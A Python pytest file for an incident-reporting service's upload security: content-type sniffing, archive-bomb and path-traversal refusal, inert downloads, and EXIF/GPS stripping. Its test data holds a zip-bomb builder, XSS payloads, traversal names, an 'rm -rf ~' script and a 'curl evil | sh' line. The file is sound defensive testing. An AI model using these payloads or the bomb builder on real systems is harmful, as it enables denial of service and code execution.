"""Files from strangers, in and out: the type decided from the bytes (a ``.jpg`` that is a web
page, an SVG with script, a program), archive bombs and path tricks refused by name while the
rest of the report is kept, every route handing stored bytes back as an inert download with a
neutralised name, and images given to staff without their EXIF/GPS while the vault's original
stays byte for byte what was signed. Through the real app on SQLite and PostgreSQL.
"""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from PIL import Image

from qorgau.desk import CaseDesk
from qorgau.domain.model import ReportFields
from qorgau.i18n import gettext
from qorgau.inbound.email_intake import SmtpIntake
from qorgau.inbound.filing import InboundReport, file_inbound_report
from qorgau.response_desk import ResponseDesk
from qorgau.security.archive_check import (
    REASON_MESSAGES,
    ArchiveLimits,
    archive_refusal,
    check_archive,
)
from qorgau.security.image_metadata import strip_metadata
from qorgau.security.uploads import content_disposition, detect, inspect, safe_filename
from qorgau.store.attachments import IncomingFile
from qorgau.store.store import Store
from qorgau.web.app import create_app
from qorgau.web.ui.public_pages import REFUSED_MESSAGES
from tests.conftest import Account
from tests.integration.test_inbound_telegram import CHAT, make_bot, run
from tests.integration.test_ui_report_form import open_form, receipt_of
from tests.support.telegram_bot_api import FakeBotApi

MB = 1 << 20
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(64)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
GPS_LAT = (43.0, 15.0, 30.0)
LOSSLESS: dict[str, dict[str, object]] = {"WEBP": {"lossless": True}}


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 3), (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A photo as a phone writes it: GPS position, camera make, orientation, a comment."""
    exif = Image.Exif()
    exif[0x010F] = "SpyPhone"  # Make
    exif[0x0112] = 6  # Orientation: turn 90° to show upright
    exif[0x8825] = {1: "N", 2: GPS_LAT, 3: "E", 4: (76.0, 55.0, 10.0)}
    out = io.BytesIO()
    Image.new("RGB", (32, 16), (200, 30, 30)).save(
        out, "JPEG", exif=exif.tobytes(), comment=b"home of the source", quality=90
    )
    return out.getvalue()


# -- building archives without writing gigabytes -----------------------------------------------


def _gf2_times(mat: list[int], vec: int) -> int:
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def _gf2_square(mat: list[int]) -> list[int]:
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC of A+B from the CRCs of A and B and B's length."""
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def zeros_deflated(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``megabytes`` MB of zeros and its CRC, built from one
    compressed megabyte repeated (after a full flush every block is the same bytes), so the
    test handles a megabyte, never the gigabyte."""
    zeros = bytes(MB)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    stream = first + again * (megabytes - 1) + c.flush(zlib.Z_FINISH)
    crc_mb = zlib.crc32(zeros)
    crc, length = crc_mb, MB
    while length < megabytes * MB:  # doubling: megabytes is a power of two here
        crc = crc32_combine(crc, crc, length)
        length *= 2
    return stream, crc


def zip_of_one(name: str, deflated: bytes, crc: int, size: int) -> bytes:
    """A valid single-entry ZIP around an already-deflated stream."""
    raw = name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(deflated), size, len(raw), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(deflated), size, len(raw), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    body = local + raw + deflated
    directory = central + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


@pytest.fixture(scope="module")
def gigabyte_bomb() -> bytes:
    deflated, crc = zeros_deflated(1024)
    return zip_of_one("report.txt", deflated, crc, 1024 * MB)


def zip_with(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return out.getvalue()


# -- what the bytes are --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "declared", "detected", "stored"),
    [
        (HTML, "image/jpeg", "text/html", "application/octet-stream"),
        (b"  \n<p>hi</p>", "text/plain", "text/html", "application/octet-stream"),
        (SVG, "image/png", "image/svg+xml", "application/octet-stream"),
        (b"<svg onload=alert(1)/>", "image/svg+xml", "image/svg+xml", "application/octet-stream"),
        (b"MZ\x90\x00" + bytes(60), "application/pdf", "application/x-msdownload", None),
        (ELF, "image/png", "application/x-executable", None),
        (b"\xcf\xfa\xed\xfe" + bytes(28), "video/mp4", "application/x-mach-binary", None),
        (b"#!/bin/sh\nrm -rf ~\n", "text/plain", "text/x-shellscript", None),
        (PDF, "image/jpeg", "application/pdf", "application/pdf"),
        ("Қоқан-лоқы хат".encode(), "application/octet-stream", "text/plain", "text/plain"),
        (b"From: a@b.kz\nSubject: x\n\nbody", "", "message/rfc822", "message/rfc822"),
        (bytes(100), "video/mp4", None, "application/octet-stream"),
    ],
)
def test_the_type_comes_from_the_bytes_never_the_name_or_declared_type(
    data: bytes, declared: str, detected: str | None, stored: str | None
) -> None:
    verdict = inspect(data, declared)
    assert verdict.detected == detected
    assert verdict.stored_type == (stored or "application/octet-stream")
    assert detect(png_bytes()) == "image/png" and detect(jpeg_with_gps()) == "image/jpeg"


def test_the_public_form_refuses_disguised_files_by_name_and_keeps_the_rest(
    store: Store, accounts: dict[str, Account]
) -> None:
    png = png_bytes()
    with TestClient(create_app(store.settings, store), headers={"accept": "text/html"}) as web:
        form = open_form(web, "ru")
        sent = web.post(
            "/report",
            data={**form, "description": "Пришли странные файлы."},
            files=[
                ("files", ("photo.jpg", HTML, "image/jpeg")),
                ("files", ("chart.png", SVG, "image/png")),
                ("files", ("scan.pdf", ELF, "application/pdf")),
                ("files", ("noise.mp4", bytes(500), "video/mp4")),
                ("files", ("renamed.jpg", png, "image/jpeg")),
                ("files", ("letter.pdf", PDF, "application/pdf")),
            ],
        )
    assert sent.status_code == 200, sent.text
    for name in ("photo.jpg", "chart.png", "scan.pdf", "noise.mp4"):
        assert gettext("ru", REFUSED_MESSAGES["bad_type"], name=f"“{name}”") in sent.text
    desk = CaseDesk(store)
    public_id, _, _ = desk.track(receipt_of(sent.text))
    responder = accounts["responder"].principal
    kept = ResponseDesk(desk).attachments(responder, public_id)
    # A PNG called .jpg is harmless: kept, and labelled as what it is.
    assert sorted((a.filename, a.media_type) for a in kept) == [
        ("letter.pdf", "application/pdf"),
        ("renamed.jpg", "image/png"),
    ]
    description = desk.get(responder, public_id).description
    assert "[Not kept: 'photo.jpg' (image/jpeg, text/html by its content" in description
    assert "'noise.mp4' (video/mp4, not recognised by its content" in description


def test_mail_keeps_a_disguised_page_as_evidence_but_never_labels_it_as_a_page(
    store: Store, desk: CaseDesk, accounts: dict[str, Account]
) -> None:
    filed = file_inbound_report(
        store,
        desk,
        InboundReport(
            channel="email",
            external_id="<disguised-1@orda.example>",
            fields=ReportFields(title="Phishing", attack_types=("phishing",)),
            files=[
                IncomingFile("invoice.jpg", "image/jpeg", HTML),
                IncomingFile("logo.png", "image/png", SVG),
                IncomingFile("scan.png", "application/octet-stream", png_bytes()),
            ],
        ),
    )
    kept = ResponseDesk(desk).attachments(accounts["responder"].principal, filed.public_id)
    assert sorted((a.filename, a.media_type) for a in kept) == [
        ("invoice.jpg", "application/octet-stream"),
        ("logo.png", "application/octet-stream"),
        ("scan.png", "image/png"),
    ]


# -- archives ------------------------------------------------------------------------------


def test_a_gigabyte_of_zeros_in_one_megabyte_is_refused_from_its_directory(
    gigabyte_bomb: bytes,
) -> None:
    assert len(gigabyte_bomb) < 2 * MB
    with zipfile.ZipFile(io.BytesIO(gigabyte_bomb)) as zf:  # a real, valid archive
        (info,) = zf.infolist()
        assert info.file_size == 1024 * MB and zf.open(info).read(10) == bytes(10)
    problem = check_archive(gigabyte_bomb)
    assert problem is not None and problem.rule == "too_large"
    ratio_only = check_archive(gigabyte_bomb, ArchiveLimits(max_total_bytes=2048 * MB))
    assert ratio_only is not None and ratio_only.rule == "ratio"


def test_nesting_entry_counts_and_names_that_leave_the_folder_are_refused() -> None:
    inner = zip_with({"a.txt": b"one"})
    assert check_archive(zip_with({"inner.zip": inner, "b.txt": b"two"})) is None
    deep = zip_with({"l2.zip": zip_with({"l3.zip": inner})})
    assert (p := check_archive(deep)) is not None and p.rule == "depth"
    many = zip_with({f"f{i}.txt": b"" for i in range(51)})
    assert (p := check_archive(many, ArchiveLimits(max_entries=50))) is not None
    assert p.rule == "entries"
    for name in ("../../etc/passwd", "/etc/cron.d/x", "C:/Windows/x.dll", "a/..\\..\\x"):
        assert (p := check_archive(zip_with({name: b"x"}))) is not None, name
        assert p.rule == "path"
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as tf:
        member = tarfile.TarInfo("../outside.sh")
        member.size = 2
        tf.addfile(member, io.BytesIO(b"hi"))
    assert (p := check_archive(gzip.compress(tar.getvalue()))) is not None and p.rule == "path"
    bomb = gzip.compress(bytes(16 * MB))
    assert (p := check_archive(bomb)) is not None and p.rule == "ratio"
    lenient = ArchiveLimits(max_total_bytes=8 * MB, max_ratio=10**6)
    assert (p := check_archive(bomb, lenient)) is not None and p.rule == "too_large"
    assert check_archive(b"PK\x03\x04 not really a zip") is not None
    locked = bytearray(zip_with({"secret.txt": b"protected by the source"}))
    for signature in (b"PK\x03\x04", b"PK\x01\x02"):  # mark the entry encrypted
        at = locked.index(signature)
        flag = at + (6 if signature == b"PK\x03\x04" else 8)
        locked[flag] |= 1
    assert check_archive(bytes(locked)) is None  # judged by its directory, not refused
    assert check_archive(PDF) is None  # not an archive: nothing to say


def test_a_bomb_dressed_as_an_office_file_or_hidden_in_a_later_gzip_member_is_refused() -> None:
    lenient = ArchiveLimits(max_total_bytes=8 * MB, max_ratio=10**6)
    # A "docx" is a ZIP, and so is its bomb: judged by its magic bytes, not its label.
    docx = zip_with({"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(9 * MB)})
    assert (p := check_archive(docx, lenient)) is not None and p.rule == "too_large"
    # gunzip unpacks every member: a harmless first member must not hide the second.
    two_members = gzip.compress(b"hello") + gzip.compress(bytes(9 * MB))
    assert (p := check_archive(two_members, lenient)) is not None and p.rule == "too_large"
    assert check_archive(gzip.compress(b"hello") + gzip.compress(b"world")) is None


@pytest.mark.parametrize(
    ("compress", "label"),
    [(bz2.compress, "bzip2"), (lzma.compress, "xz")],
)
def test_bzip2_and_xz_bombs_are_counted_while_unpacking(
    compress: Callable[[bytes], bytes], label: str
) -> None:
    """A bzip2 or xz stream of 64 MB of zeros is a few hundred bytes: refused by the ratio or
    the total, every stream of a file counted, a nested one opened, and a damaged one named."""
    zeros = compress(bytes(64 * MB))
    assert len(zeros) < 64 * 1024
    assert (p := check_archive(zeros)) is not None and p.rule == "ratio", label
    lenient = ArchiveLimits(max_total_bytes=8 * MB, max_ratio=10**6)
    assert (p := check_archive(zeros, lenient)) is not None and p.rule == "too_large"
    two_streams = compress(b"hello") + compress(bytes(9 * MB))
    assert (p := check_archive(two_streams, lenient)) is not None and p.rule == "too_large"
    if label == "xz":  # padding between streams is allowed, and is not a way to hide one
        padded = compress(b"hello") + bytes(4) + compress(bytes(9 * MB))
        assert (p := check_archive(padded, lenient)) is not None and p.rule == "too_large"
        assert check_archive(compress(b"hello") + bytes(4) + compress(b"world")) is None
    # An archive inside: a tar of a path-escaping name, compressed, is still looked into.
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w") as tf:
        member = tarfile.TarInfo("../../etc/cron.d/evil")
        member.size = 5
        tf.addfile(member, io.BytesIO(b"hello"))
    assert (p := check_archive(compress(inner.getvalue()))) is not None and p.rule == "path"
    assert (p := check_archive(zeros[:40] + b"\xff" * 64)) is not None
    assert p.rule in ("unreadable", "ratio")
    # Real evidence passes: a compressed chat export of ordinary text.
    chat = "\n".join(f"{i:05d} [12:{i % 60:02d}] Редактор: звонки всю ночь" for i in range(4000))
    assert check_archive(compress(chat.encode())) is None


def test_the_form_refuses_a_bomb_by_name_in_the_readers_language_and_keeps_the_rest(
    store: Store, accounts: dict[str, Account], gigabyte_bomb: bytes
) -> None:
    nested = zip_with({"l2.zip": zip_with({"l3.zip": zip_with({"a.txt": b"x"})})})
    fine = zip_with({"chat/1.txt": "Сообщение".encode()})
    with TestClient(create_app(store.settings, store), headers={"accept": "text/html"}) as web:
        form = open_form(web, "kk")
        sent = web.post(
            "/report",
            data={**form, "description": "Мұрағат жібердім."},
            files=[
                ("files", ("evidence.zip", gigabyte_bomb, "application/zip")),
                ("files", ("deep.zip", nested, "application/zip")),
                ("files", ("chat.zip", fine, "application/zip")),
            ],
        )
    assert sent.status_code == 200, sent.text
    for name, rule in (("evidence.zip", "too_large"), ("deep.zip", "depth")):
        reason = gettext("kk", REASON_MESSAGES[rule])
        expected = gettext("kk", REFUSED_MESSAGES["bad_archive"], name=f"“{name}”", reason=reason)
        assert expected in sent.text
    assert gettext("kk", REASON_MESSAGES["too_large"]) != REASON_MESSAGES["too_large"]
    desk = CaseDesk(store)
    public_id, _, _ = desk.track(receipt_of(sent.text))
    responder = accounts["responder"].principal
    kept = ResponseDesk(desk).attachments(responder, public_id)
    assert [(a.filename, a.media_type) for a in kept] == [("chat.zip", "application/zip")]
    assert "'evidence.zip'" in desk.get(responder, public_id).description


def test_mail_and_chat_refuse_a_bomb_and_say_so(
    store: Store, desk: CaseDesk, accounts: dict[str, Account], gigabyte_bomb: bytes
) -> None:
    filed = file_inbound_report(
        store,
        desk,
        InboundReport(
            channel="email",
            external_id="<bomb-1@orda.example>",
            fields=ReportFields(title="Archive", attack_types=("phishing",)),
            files=[
                IncomingFile("all.zip", "application/zip", gigabyte_bomb),
                IncomingFile("note.txt", "text/plain", b"see the archive"),
            ],
        ),
    )
    assert [(r.filename, r.rule) for r in filed.refused] == [("all.zip", "bad_archive")]
    kept = ResponseDesk(desk).attachments(accounts["responder"].principal, filed.public_id)
    assert [a.filename for a in kept] == ["note.txt"]
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@orda.example", "report@qorgau.example", "Zip"
    mail["Message-ID"] = "<bomb-2@orda.example>"
    mail.set_content("The archive they sent me.")
    mail.add_attachment(gigabyte_bomb, maintype="application", subtype="zip", filename="x.zip")
    reply = SmtpIntake(store, desk, "127.0.0.1", 0).receive(mail.as_bytes())
    assert reply.startswith("250 ") and "Not kept: 'x.zip' was not kept: archive refused" in reply
    said = archive_refusal("ru", "'all.zip'", gigabyte_bomb)
    assert said is not None and gettext("ru", REASON_MESSAGES["too_large"]) in said
    assert archive_refusal("ru", "'ok.zip'", zip_with({"a.txt": b"a"})) is None


@pytest.fixture(scope="module")
def bot_api() -> Iterator[FakeBotApi]:
    server = FakeBotApi().start()
    yield server
    server.stop()


def test_the_telegram_bot_refuses_an_archive_by_name_and_keeps_the_report(
    store: Store, desk: CaseDesk, bot_api: FakeBotApi, accounts: dict[str, Account]
) -> None:
    api = bot_api
    api.reset()
    user = api.user(CHAT, language_code="kk")
    climbing = zip_with({"../../.bashrc": b"curl evil | sh"})
    api.queue_document(
        CHAT,
        climbing,
        file_name="chat.zip",
        mime_type="application/zip",
        caption="Мұрағат",
        user=user,
    )
    api.queue_document(CHAT, PDF, file_name="letter.pdf", mime_type="application/pdf", user=user)
    api.queue_text(CHAT, "/send", user=user)
    run(make_bot(store, desk, api))
    said = api.messages_to(CHAT)
    reason = gettext("kk", REASON_MESSAGES["path"])
    assert said[0] == gettext(
        "kk", REFUSED_MESSAGES["bad_archive"], name="'chat.zip'", reason=reason
    )
    (filed,) = [i for i in store_incidents(store, desk)]
    kept = ResponseDesk(desk).attachments(accounts["responder"].principal, filed)
    assert [(a.filename, a.media_type) for a in kept] == [("letter.pdf", "application/pdf")]


def store_incidents(store: Store, desk: CaseDesk) -> list[str]:
    from qorgau.store.tables import incidents

    with store.read() as conn:
        return [str(p) for p in conn.execute(sa.select(incidents.c.public_id)).scalars()]


# -- handing bytes back ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\system.ini", "system.ini"),
        ("C:\\Users\\x\\evil.exe", "evil.exe"),
        ("/abs/path/.htaccess", "htaccess"),
        ('re"port\r\nX-Injected: 1.pdf', "re_portX-Injected_ 1.pdf"),
        ("nul\x00byte.jpg", "nulbyte.jpg"),
        ("..", "fallback.bin"),
        ("", "fallback.bin"),
        (None, "fallback.bin"),
    ],
)
def test_names_are_neutralised_for_the_download(name: str | None, safe: str) -> None:
    assert safe_filename(name, "fallback.bin") == safe
    header = content_disposition(name, "fallback.bin")
    assert header == f'attachment; filename="{safe}"'


def test_non_ascii_names_travel_as_rfc_5987() -> None:
    header = content_disposition("скриншот угрозы.png", "x.bin")
    assert header == (
        'attachment; filename="________ ______.png"; '
        "filename*=UTF-8''%D1%81%D0%BA%D1%80%D0%B8%D0%BD%D1%88%D0%BE%D1%82%20"
        "%D1%83%D0%B3%D1%80%D0%BE%D0%B7%D1%8B.png"
    )
    assert len(safe_filename("a" * 300 + ".jpg", "x")) == 150
    assert safe_filename("a" * 300 + ".jpg", "x").endswith(".jpg")


@pytest.fixture
def filed_photo(store: Store, desk: CaseDesk) -> Iterator[tuple[str, bytes, str]]:
    photo = jpeg_with_gps()
    filed = file_inbound_report(
        store,
        desk,
        InboundReport(
            channel="email",
            external_id="<photo-1@orda.example>",
            fields=ReportFields(title="Threat photo", attack_types=("threats",)),
            files=[
                IncomingFile("../../home/aigerim/IMG_0001.jpg", "image/jpeg", photo),
                IncomingFile("page.html", "text/html", HTML),
                IncomingFile("<img src=x onerror=alert(1)>.txt", "text/plain", b"a note"),
            ],
        ),
    )
    yield filed.public_id, photo, hashlib.sha256(photo).hexdigest()


def assert_inert(r: Any, name: str) -> None:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/octet-stream"
    assert r.headers["content-disposition"] == f'attachment; filename="{name}"'
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"


def no_metadata(data: bytes) -> None:
    with Image.open(io.BytesIO(data)) as im:
        assert im.format == "JPEG"
        assert dict(im.getexif()) == {} and "comment" not in im.info
        assert im.size == (16, 32)  # turned upright, as the orientation tag asked
    assert b"SpyPhone" not in data and b"home of the source" not in data


def test_staff_get_photos_without_gps_while_the_signed_original_stays_intact(
    store: Store, accounts: dict[str, Account], filed_photo: tuple[str, bytes, str]
) -> None:
    public_id, photo, sha = filed_photo
    with Image.open(io.BytesIO(photo)) as im:
        assert im.getexif().get_ifd(0x8825)[2] == GPS_LAT  # the photo really carries GPS
    responder, coordinator = accounts["responder"], accounts["coordinator"]
    with TestClient(create_app(store.settings, store)) as client:
        url = f"/api/v1/incidents/{public_id}/attachments/{sha}"
        copy = client.get(url, headers=responder.headers)
        assert_inert(copy, "IMG_0001.jpg")
        no_metadata(copy.content)
        assert copy.headers["x-qorgau-sha256"] == sha  # names the original it came from
        # The original: only for those who may export evidence, and it is audited.
        assert client.get(url + "?original=true", headers=responder.headers).status_code == 403
        original = client.get(url + "?original=true", headers=coordinator.headers)
        assert_inert(original, "IMG_0001.jpg")
        assert original.content == photo and hashlib.sha256(original.content).hexdigest() == sha

        evidence = client.get(
            f"/api/v1/incidents/{public_id}/evidence", headers=coordinator.headers
        ).json()
        item = next(e for e in evidence if e["sha256"] == sha)
        content = f"/api/v1/evidence/{item['id']}/content?reason=triage"
        viewed = client.get(content, headers=responder.headers)
        assert_inert(viewed, "IMG_0001.jpg")
        no_metadata(viewed.content)
        assert client.get(content + "&original=true", headers=responder.headers).status_code == 403
        exact = client.get(content + "&original=true", headers=coordinator.headers)
        assert exact.content == photo

        custody = next(
            e
            for e in client.get(
                f"/api/v1/incidents/{public_id}/evidence", headers=coordinator.headers
            ).json()
            if e["sha256"] == sha
        )["custody"]
        assert [c["action"] for c in custody] == ["collected"] + ["viewed"] * 4  # 403s leave none
        verified = client.get("/api/v1/vault/verify", headers=coordinator.headers).json()
        # Blobs other tests left in the shared store are reported as strays; nothing else.
        assert {p["kind"] for p in verified["problems"]} <= {"blob_unexpected"}
        assert verified["items_checked"] >= 2 and verified["entries_checked"] >= 2
        proof = client.get(f"/api/v1/evidence/{item['id']}/proof", headers=coordinator.headers)
        assert proof.status_code in (200, 404)  # 404 only while no head is signed yet
        if proof.status_code == 200:
            assert proof.json()["sha256"] == sha
        timeline = client.get(
            f"/api/v1/incidents/{public_id}/timeline", headers=coordinator.headers
        ).json()
        assert [e["kind"] for e in timeline].count("incident:attachment:original") == 1


def test_custody_says_which_copy_was_taken(
    store: Store, accounts: dict[str, Account], filed_photo: tuple[str, bytes, str]
) -> None:
    from qorgau.store import vault as vault_repo
    from qorgau.vault_desk import VaultDesk

    public_id, photo, sha = filed_photo
    vd = VaultDesk(CaseDesk(store))
    coordinator = accounts["coordinator"].principal
    (item,) = [i for i, _ in vd.items(coordinator, public_id) if i.sha256 == sha]
    _, copy = vd.open_item(coordinator, item.id, "check")
    _, original = vd.open_item(coordinator, item.id, "court", original=True)
    assert original == photo and copy != photo
    with store.read() as conn:
        records = vault_repo.custody(conn, [item.id])[item.id]
    assert [(c.action, c.detail) for c in records][-2:] == [
        ("viewed", {"copy": "without_metadata"}),
        ("viewed", {"copy": "original"}),
    ]


def test_pages_and_programs_come_back_as_downloads_under_a_harmless_name(
    store: Store, accounts: dict[str, Account], filed_photo: tuple[str, bytes, str]
) -> None:
    public_id, _, _ = filed_photo
    page_sha = hashlib.sha256(HTML).hexdigest()
    with TestClient(create_app(store.settings, store)) as client:
        r = client.get(
            f"/api/v1/incidents/{public_id}/attachments/{page_sha}",
            headers=accounts["responder"].headers,
        )
        assert_inert(r, "page.html")
        assert r.content == HTML  # unchanged: it is the evidence, and it cannot render
        assert r.headers["x-qorgau-original-type"] == "application/octet-stream"
        export = client.post(
            f"/api/v1/incidents/{public_id}/evidence/export",
            json={"language": "en", "reason": "court"},
            headers=accounts["coordinator"].headers,
        )
        assert export.status_code == 200, export.text
        assert export.headers["content-type"] == "application/zip"
        assert export.headers["content-disposition"].startswith("attachment;")
        with zipfile.ZipFile(io.BytesIO(export.content)) as zf:  # originals, as signed
            names = zf.namelist()
            assert all(".." not in n and not n.startswith("/") for n in names)
            assert any(zf.read(n) == HTML for n in names)
            # Names in the package are Qorgau's, never the sender's.
            assert not any("onerror" in n for n in names)


def test_image_formats_lose_their_metadata_but_not_their_pixels() -> None:
    for fmt, media in (("PNG", "image/png"), ("WEBP", "image/webp"), ("TIFF", "image/tiff")):
        exif = Image.Exif()
        exif[0x010F] = "SpyPhone"
        out = io.BytesIO()
        Image.new("RGB", (6, 5), (1, 2, 3)).save(
            out, fmt, exif=exif.tobytes(), **LOSSLESS.get(fmt, {})
        )
        data = out.getvalue()
        clean = strip_metadata(data, media)
        assert clean is not None and b"SpyPhone" in data and b"SpyPhone" not in clean, fmt
        with Image.open(io.BytesIO(clean)) as im:
            assert im.size == (6, 5), fmt
            pixel = im.convert("RGB").getpixel((0, 0))
            assert isinstance(pixel, tuple)
            assert max(abs(a - b) for a, b in zip(pixel, (1, 2, 3), strict=True)) <= 3, fmt
    plain = png_bytes()
    assert strip_metadata(plain, "image/png") == plain  # nothing to strip: the same bytes
    assert strip_metadata(HTML, "image/jpeg") is None


def test_a_photo_that_cannot_be_cleaned_is_not_handed_out_as_if_it_were() -> None:
    from qorgau.errors import Conflict
    from qorgau.security.image_metadata import staff_copy

    photo = jpeg_with_gps()
    clean, changed = staff_copy(photo)
    assert changed and b"GPS" not in clean
    truncated = photo[: len(photo) // 2]  # the EXIF block is whole, the pixels are not
    assert b"Exif" in truncated
    with pytest.raises(Conflict, match="cannot be cleaned"):
        staff_copy(truncated)
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
    with pytest.raises(Conflict, match="original"):
        staff_copy(heic)
    pdf, changed = staff_copy(PDF)  # not a photo: handed out as stored
    assert pdf == PDF and not changed
